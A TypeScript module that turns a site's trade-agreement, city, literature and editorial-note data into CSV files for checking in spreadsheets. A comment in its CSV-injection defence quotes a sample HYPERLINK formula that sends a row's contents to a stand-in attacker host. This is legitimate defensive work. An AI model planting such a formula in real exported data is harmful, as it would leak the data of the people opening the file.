import { stringify } from "csv-stringify/sync";

import type { City, EditorialNote, Fta, SiteData, Source, Work } from "../entities/types.ts";
import { personName } from "../entities/names.ts";

/**
 * Flat CSV views of the data sets, one row per record (per platform for
 * cities), for people who check the data in a spreadsheet. The JSON files
 * stay the full, nested truth; CSV cells join lists with "; ".
 */
const list = (xs: (string | null | undefined)[]) => xs.filter(Boolean).join("; ");
const sourceUrls = (s: Source[]) => list(s.map((x) => x.url ?? x.title));

const TABLES: Record<string, (data: SiteData) => Record<string, string | number | null>[]> = {
  ftas: (d) =>
    d.ftas.map((f: Fta) => ({
      id: f.id,
      name_zh: f.names.zh,
      name_en: f.names.en,
      aliases: list(f.names.aliases),
      parties: list(f.parties.map((p) => p.zh ?? p.en)),
      status: f.status,
      china: f.china,
      applied: f.applied,
      signed: f.signed,
      in_force: f.inForce,
      upgrades: list(f.upgrades.map((u) => `${u.names.zh ?? u.names.en} (signed ${u.signed ?? "?"}, in force ${u.inForce ?? "?"})`)),
      sources: sourceUrls(f.sources),
    })),
  cities: (d) =>
    d.cities.flatMap((c: City) =>
      c.platforms.map((p) => ({
        city_id: c.id,
        city_zh: c.name.zh,
        city_en: c.name.en,
        province: c.province.zh,
        lat: c.coordinates?.lat ?? null,
        lon: c.coordinates?.lon ?? null,
        platform_zh: p.names.zh,
        platform_en: p.names.en,
        partner: p.partner.zh ?? p.partner.en,
        year: p.year,
        date: p.date,
        paper_year: p.paperYear,
        ftas: list(p.ftas),
        sources: sourceUrls([...p.sources, ...c.sources]),
      })),
    ),
  literature: (d) =>
    d.literature.map((w: Work) => ({
      id: w.id,
      cited_as: w.citedAs,
      type: w.type,
      authors: list(w.author.map(personName)),
      year: w.issued["date-parts"][0]?.[0] ?? null,
      title: w.title,
      container_title: w["container-title"],
      volume: w.volume ?? null,
      issue: w.issue ?? null,
      page: w.page ?? null,
      doi: w.DOI ?? null,
      url: w.URL ?? null,
      sources: sourceUrls(w.sources),
    })),
  "editorial-notes": (d) =>
    d["editorial-notes"].map((n: EditorialNote) => ({ id: n.id, paper: n.paper, paragraph: n.paragraph, claim: n.claim, text: n.text, sources: sourceUrls(n.sources) })),
};

/**
 * A text cell that a spreadsheet would run as a formula (=HYPERLINK("http://evil.example/?"&A1)
 * in a name sends the row away when clicked) is prefixed with ', as OWASP advises for CSV
 * injection: the program then shows the text as written. Only text reaches this (csv-stringify's
 * cast.string); a number such as -3.5 is data and stays a number.
 */
function defuseFormula(cell: string): string {
  return /^[=+\-@\t\r]/.test(cell) ? `'${cell}` : cell;
}

/** CSV with a byte-order mark, so spreadsheet programs read the Chinese as UTF-8. */
export function toCsv(name: string, data: SiteData): string {
  const rows = TABLES[name]?.(data);
  if (!rows) throw new Error(`no CSV view for data set "${name}"`);
  return `\uFEFF${stringify(rows, { header: true, columns: Object.keys(rows[0] ?? {}), cast: { number: String, string: defuseFormula } })}`;
}

export const CSV_SETS = Object.keys(TABLES);
